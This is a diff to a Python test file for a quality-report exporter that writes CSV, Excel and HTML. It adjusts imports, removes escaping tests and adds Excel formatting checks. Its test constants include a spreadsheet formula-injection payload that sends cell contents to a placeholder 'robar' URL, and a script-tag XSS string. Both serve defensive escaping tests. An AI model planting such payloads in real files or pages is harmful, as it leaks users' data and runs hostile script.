@@ -9,9 +9,9 @@ import pytest
 from openpyxl import load_workbook
 
 from planmejora.calidad import escribir
-from planmejora.calidad.escapar import celda, hash_csp
 from planmejora.calidad.modelo import Accion, DocumentoIlegible, FilaProblema, Filtros, Reporte
 from planmejora.calidad.salida_html import html_de
+from planmejora.salidas.escapar import hash_csp
 
 HIPERVINCULO = '=HYPERLINK("http://malo.example/robar?d="&A1,"Clic aquí")'
 GUION = "<script>alert('xss')</script>"
@@ -99,17 +99,6 @@ def reporte() -> Reporte:
     )
 
 
-@pytest.mark.parametrize("texto", [HIPERVINCULO, "+57 300", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "  =1+1", "-5"])
-def test_un_texto_que_una_hoja_de_calculo_ejecutaria_queda_como_texto(texto: str) -> None:
-    assert celda(texto) == "'" + texto
-
-
-def test_un_texto_normal_queda_igual() -> None:
-    assert celda("21sept-21") == "21sept-21"
-    assert celda("Secretaría de Hacienda") == "Secretaría de Hacienda"
-    assert celda(None) == ""
-
-
 def test_csv_con_las_columnas_del_contrato_bom_y_una_fila_por_problema(tmp_path: Path) -> None:
     ruta = tmp_path / "calidad.csv"
     escribir(reporte(), ruta)
@@ -142,9 +131,13 @@ def test_xlsx_resumen_y_detalle_filtrables_con_fechas_de_excel(tmp_path: Path) -
     resumen = {fila[0]: fila[1] for fila in libro["Resumen"].iter_rows(values_only=True) if fila and fila[0]}
     assert resumen["Problemas"] == 3 and resumen["Documentos"] == 3 and resumen["Acciones vencidas"] == 2
     assert resumen["Fecha de corte"] == dt.datetime(2022, 6, 30)
+    cantidades = [fila for fila in libro["Resumen"].iter_rows() if isinstance(fila[1].value, int)]
+    assert cantidades and all(fila[1].alignment.horizontal == "left" for fila in cantidades)
+    assert libro["Resumen"].column_dimensions["A"].width <= 50
 
     detalle = libro["Problemas"]
-    assert detalle.freeze_panes == "A2"
+    assert detalle.freeze_panes == "A2" and detalle.print_title_rows == "$1:$1"
+    assert detalle.page_setup.orientation == "landscape" and detalle.sheet_properties.pageSetUpPr.fitToPage
     assert detalle.auto_filter.ref == f"A1:I{1 + 3}"
     assert detalle.column_dimensions["H"].width > detalle.column_dimensions["D"].width >= 10
     encabezados = [c.value for c in detalle[1]]
@@ -161,7 +154,7 @@ def test_xlsx_resumen_y_detalle_filtrables_con_fechas_de_excel(tmp_path: Path) -
         ("Secretaría de Hacienda", dt.datetime(2022, 5, 4), 57),
         ("Secretaría de Planeación", dt.datetime(2022, 1, 31), 150),
     ]
-    assert vencidas.cell(3, encabezados.index("Terminación") + 1).number_format == "MMM-YYYY"
+    assert vencidas.cell(3, encabezados.index("Terminación") + 1).number_format == "[$-240A]MMM-YYYY"
 
 
 def test_ninguna_celda_del_libro_es_una_formula(tmp_path: Path) -> None:
